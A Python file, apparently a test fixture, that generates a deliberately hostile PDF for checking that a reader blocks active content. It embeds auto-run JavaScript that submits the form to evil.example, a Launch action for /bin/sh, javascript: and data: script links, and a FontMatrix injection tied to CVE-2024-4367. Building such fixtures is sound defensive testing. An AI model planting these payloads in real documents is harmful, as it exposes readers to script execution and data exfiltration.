"""A PDF that asks for everything a reader must not do: run scripts, send a form, open programs and addresses."""

_WORDS = b"BT /F1 24 Tf 72 700 Td (Nothing here runs.) Tj ET"
_OBJECTS = [
    rb"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\(1\);this.submitForm\('https://evil.example'\))>>"
    rb"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert\(2\))>>]>>>>"
    b"/AcroForm<</Fields[7 0 R]/XFA(<xdp/>)>>>>",
    b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>"
    b"/Annots[6 0 R 7 0 R 8 0 R 9 0 R 10 0 R]/AA<</O<</S/URI/URI(https://evil.example/open)>>>>>>",
    b"<</Length %d>>stream\n%s\nendstream" % (len(_WORDS), _WORDS),
    # A matrix that is spliced into code runs it (CVE-2024-4367).
    rb"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/FontMatrix[1 0 0 1 0 (0\);alert\(9\)//)]>>",
    rb"<</Type/Annot/Subtype/Link/Rect[72 600 300 620]/A<</S/URI/URI(javascript:alert\(3\))>>>>",
    rb"<</Type/Annot/Subtype/Widget/FT/Tx/T(x)/Rect[72 500 300 520]/AA<</K<</S/JavaScript/JS(app.alert\(4\))>>>>>>",
    b"<</Type/Annot/Subtype/Link/Rect[72 560 300 590]/A<</S/URI/URI(https://elsewhere.example/read)>>>>",
    b"<</Type/Annot/Subtype/Link/Rect[72 530 300 550]/A<</S/Launch/F(/bin/sh)>>>>",
    rb"<</Type/Annot/Subtype/Link/Rect[72 480 300 498]/A<</S/URI/URI(data:text/html,<script>alert\(5\)</script>)>>>>",
]


def hostile_pdf() -> bytes:
    """The bytes of it (ISO 32000-1, 7.5): one page that says `Nothing here runs.`"""
    written = b"%PDF-1.7\n"
    places = []
    for number, one in enumerate(_OBJECTS, 1):
        places.append(len(written))
        written += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(_OBJECTS) + 1
    trailer = b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF"
    return written + trailer % (count, table, count, len(written))
